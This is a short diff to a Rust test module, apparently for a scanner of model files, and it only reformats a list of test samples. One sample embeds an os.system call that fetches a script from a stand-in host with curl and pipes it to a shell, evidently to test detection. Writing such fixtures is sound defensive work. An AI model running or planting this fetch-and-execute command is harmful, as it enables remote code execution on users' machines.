@@ -34,7 +34,10 @@ pub(crate) mod tests {
     use crate::vet;
 
     pub(crate) fn samples() -> Vec<Vec<u8>> {
-        vec![b"tree\nversion=v4\nnum_class=1\n".to_vec(), b"tree\nversion=v4\nx=os.system('curl http://x.example/p.sh | sh')\n".to_vec()]
+        vec![
+            b"tree\nversion=v4\nnum_class=1\n".to_vec(),
+            b"tree\nversion=v4\nx=os.system('curl http://x.example/p.sh | sh')\n".to_vec(),
+        ]
     }
 
     #[test]
